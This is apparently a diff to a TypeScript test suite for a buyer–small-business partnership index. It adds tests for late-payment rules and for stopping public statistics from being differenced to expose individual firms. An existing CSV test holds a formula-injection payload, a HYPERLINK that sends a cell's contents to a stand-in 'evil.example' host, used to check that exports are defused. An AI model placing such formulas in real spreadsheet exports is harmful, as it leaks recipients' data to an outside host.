@@ -3,7 +3,13 @@
 //   - confirmed payments counted one by one, so tiny payments on time diluted a late milestone;
 //   - an amendment that lengthens the term or lowers the amount of a milestone whose term already runs, so a
 //     milestone left unpaid past its term stopped being late;
-//   - the ministry ranking CSV carried a buyer's chosen name into Excel as a formula.
+//   - a payment term started only when the buyer accepted a delivery, so a buyer that never reviewed its
+//     suppliers' deliveries was never measured on payments at all (and could date its own record later);
+//   - the ministry ranking CSV carried a buyer's chosen name into Excel as a formula;
+//   - a public cluster page's partnership total still held a suspended anchor that its rows no longer showed
+//     (total − rows = that anchor's single partnership), and a certificate count left 1–2 members without it;
+//   - the statistics' cluster filter: a province's figure without the cluster minus the same with it gave away
+//     the partnerships of the one UMKM of that province outside the cluster.
 import { beforeAll, describe, expect, it } from "vitest";
 import { useTestDatabase } from "@/tests/helpers/db";
 import { callRoute } from "@/tests/helpers/api";
@@ -14,7 +20,9 @@ import { DomainError } from "@/lib/errors";
 import { getPartnershipIndex } from "@/lib/partnership-index/queries";
 import { recordDelivery, reviewDelivery } from "@/lib/agreements/execution";
 import { amendAgreement } from "@/lib/agreements/proposals";
+import { getClusterSummary } from "@/lib/clusters/summary";
 import { GET as ranking } from "@/app/api/v1/stats/partnership-index/route";
+import { GET as partnershipStats } from "@/app/api/v1/stats/partnerships/route";
 
 const t = useTestDatabase();
 const d = (s: string) => new Date(`${s}T00:00:00Z`);
@@ -181,6 +189,57 @@ describe("an amendment cannot make a running payment term longer or a delivered 
   });
 });
 
+describe("a delivery the buyer leaves unreviewed still starts the payment term", () => {
+  it("counts the milestone late once its term is over, and the buyer's own later-dated record does not move it", async () => {
+    const b = await createBuyer(t.db, { name: "PT Tak Pernah Periksa" });
+    const u = await createUmkm(t.db, { name: "UD Menunggu Diperiksa" });
+    const ms = (due: string) => ({ title: "Termin", dueDate: d(due), amountIdr: 50_000_000n, paymentTermDays: 30 });
+    const a = await createAgreement(t.db, b.organization.id, u.organization.id, {
+      startDate: d(`${Y}-01-01`),
+      endDate: d(`${Y}-12-31`),
+      valueIdr: 100_000_000n,
+      milestones: [ms(`${Y}-03-01`), ms(`${Y}-06-01`)],
+    });
+    const [m1, m2] = a.milestones;
+    // the supplier delivered both milestones; the buyer never reviewed them
+    for (const [m, on] of [
+      [m1, `${Y}-03-01`],
+      [m2, `${Y}-06-01`],
+    ] as const)
+      await t.db.delivery.create({
+        data: {
+          agreementId: a.id,
+          milestoneId: m.id,
+          quantity: 1,
+          deliveredOn: d(on),
+          onTime: true,
+          status: "pending_review",
+          createdAt: d(on),
+        },
+      });
+    // ...but recorded one of its own for m2, dated four months later, accepted
+    await t.db.delivery.create({
+      data: { agreementId: a.id, milestoneId: m2.id, quantity: 1, deliveredOn: d(`${Y}-10-01`), onTime: false, status: "accepted" },
+    });
+    // m2 paid (and confirmed) on 20 October: 141 days after the supplier's delivery, 19 after the buyer's date
+    await t.db.payment.create({
+      data: {
+        agreementId: a.id,
+        milestoneId: m2.id,
+        amountIdr: 50_000_000n,
+        paidOn: d(`${Y}-10-20`),
+        receivedOn: d(`${Y}-10-20`),
+        receiptConfirmedAt: new Date(),
+      },
+    });
+    const ix = await indexOf(b.organization.id);
+    expect(ix.counts).toMatchObject({ paymentsCounted: 2, paymentsLate: 2, unpaidPastTerm: 1 });
+    expect(ix.components.daysToPayMedian).toBe(141);
+    // the two deliveries waiting for review count as not reviewed on time
+    expect(ix.counts).toMatchObject({ deliveriesCounted: 2, deliveriesOnTime: 0 });
+  });
+});
+
 describe("ministry ranking CSV", () => {
   it("defuses a buyer name that a spreadsheet would run as a formula", async () => {
     const evil = '=HYPERLINK("http://evil.example/?x="&A1;"klik")';
@@ -199,5 +258,107 @@ describe("ministry ranking CSV", () => {
     for (const c of cells) expect(c.replace(/^"/, ""), c).not.toMatch(/^[=+\-@]/);
     expect(text).toContain("'=HYPERLINK");
     expect(text).toContain("'@SUM(1+1)");
+  });
+});
+
+describe("public cluster figures: no differencing", () => {
+  beforeAll(async () => {
+    const { organization: manager } = await createOrganization(t.db, "cluster_manager", { name: "Asosiasi IKM Uji" });
+    const cluster = await t.db.cluster.create({
+      data: { name: "Klaster Uji Selisih", kbliSections: ["C"], provinceCodes: ["32"], regencyCodes: [], managerId: manager.id },
+    });
+    ids.cluster = cluster.id;
+    const members = [];
+    for (let i = 1; i <= 7; i++) members.push((await createUmkm(t.db, { name: `UD Anggota Klaster ${i}` })).organization.id);
+    await t.db.clusterMember.createMany({
+      data: members.map((organizationId) => ({ clusterId: cluster.id, organizationId, status: "active" as const, joinedAt: new Date() })),
+    });
+    // anchors: K1 with members 1–3, K2 with members 4–6, K3 with member 7 only
+    const anchors = [];
+    for (const name of ["PT Jangkar Satu", "PT Jangkar Dua", "PT Jangkar Tiga"])
+      anchors.push((await createBuyer(t.db, { name })).organization.id);
+    await t.db.clusterAnchor.createMany({
+      data: anchors.map((buyerId) => ({ clusterId: cluster.id, buyerId, status: "active" as const, decidedAt: new Date() })),
+    });
+    const plan: [number, number, bigint][] = [
+      [0, 0, 10_000_000n],
+      [0, 1, 11_000_000n],
+      [0, 2, 12_000_000n],
+      [1, 3, 20_000_000n],
+      [1, 4, 21_000_000n],
+      [1, 5, 22_000_000n],
+      [2, 6, 77_700_000n],
+    ];
+    for (const [k, m, valueIdr] of plan) await createAgreement(t.db, anchors[k], members[m], { valueIdr });
+    // then the third anchor is suspended: its row leaves the page
+    await t.db.organization.update({ where: { id: anchors[2] }, data: { suspendedAt: new Date() } });
+    // six of the seven hold a valid halal certificate: "6 of 7" would single out the seventh
+    const verifiedAt = new Date(Date.now() - 86_400_000);
+    await t.db.certification.createMany({
+      data: members.slice(0, 6).map((organizationId, i) => ({
+        organizationId,
+        type: "halal" as const,
+        number: `ID00110000${i}`,
+        verificationStatus: "verified" as const,
+        verifiedAt,
+        validUntil: d(`${Y + 2}-01-01`),
+      })),
+    });
+  });
+
+  it("the partnership total is the sum of the anchors shown (a suspended anchor leaves both)", async () => {
+    const s = await getClusterSummary(ids.cluster, null);
+    expect(s.anchors.map((a) => a.name).sort()).toEqual(["PT Jangkar Dua", "PT Jangkar Satu"]);
+    const shown = s.partnerships.byAnchor.filter((r) => !r.suppressed);
+    expect(shown).toHaveLength(2);
+    expect(s.partnerships.valueIdr).toBe(shown.reduce((sum, r) => sum + r.valueIdr!, 0n));
+    expect(s.partnerships.agreements).toBe(6);
+    expect(s.partnerships.suppliers).toBe(6);
+  });
+
+  it("withholds a certificate count that leaves 1 or 2 members without it", async () => {
+    const s = await getClusterSummary(ids.cluster, null);
+    expect(s.members.umkm).toBe(7);
+    expect(s.certificates.halal).toEqual({ umkm: null, share: null, suppressed: true });
+    // ministry staff see it exactly
+    const { owner } = await createOrganization(t.db, "ministry", { name: "Kementerian Uji Klaster" });
+    const staff = await getClusterSummary(ids.cluster, await actAs(owner));
+    expect(staff.certificates.halal.umkm).toBe(6);
+  });
+});
+
+describe("statistics: the cluster filter cannot be differenced against the unfiltered view", () => {
+  it("withholds a cluster row whose complement (the UMKM outside the cluster) is fewer than 3", async () => {
+    const { organization: manager } = await createOrganization(t.db, "cluster_manager", { name: "Asosiasi Uji Statistik" });
+    const cluster = await t.db.cluster.create({
+      data: { name: "Klaster Makassar", kbliSections: ["C"], provinceCodes: ["73"], regencyCodes: [], managerId: manager.id },
+    });
+    const buyer = (await createBuyer(t.db, { name: "PT Pembeli Makassar" })).organization.id;
+    // four UMKM of Sulawesi Selatan partner with the buyer; three are in the cluster, one is not
+    const values = [31_000_000n, 32_000_000n, 33_000_000n, 44_400_000n];
+    const orgs: string[] = [];
+    for (const [i, valueIdr] of values.entries()) {
+      const u = await createUmkm(t.db, { name: `UD Makassar ${i + 1}`, regencyCode: "73.71" });
+      orgs.push(u.organization.id);
+      await createAgreement(t.db, buyer, u.organization.id, { valueIdr });
+    }
+    await t.db.clusterMember.createMany({
+      data: orgs
+        .slice(0, 3)
+        .map((organizationId) => ({ clusterId: cluster.id, organizationId, status: "active" as const, joinedAt: new Date() })),
+    });
+    type Body = { data: { key: string; suppressed: boolean; valueIdr: number | null; agreements: number | null }[] };
+    const get = async (query: Record<string, string>) => {
+      const res = await callRoute(partnershipStats, "GET", "/api/v1/stats/partnerships", { query: { groupBy: "province", ...query } });
+      expect(res.status).toBe(200);
+      return (await res.json()) as Body;
+    };
+    const whole = (await get({})).data.find((r) => r.key === "73")!;
+    const inCluster = (await get({ clusterId: cluster.id })).data.find((r) => r.key === "73");
+    expect(whole.suppressed).toBe(false);
+    expect(whole.agreements).toBe(4);
+    // the province row of the cluster view would be 3 UMKM (publishable), but 4 − 3 = the one outside it
+    expect(inCluster?.suppressed).toBe(true);
+    expect(inCluster?.valueIdr ?? null).toBeNull();
   });
 });
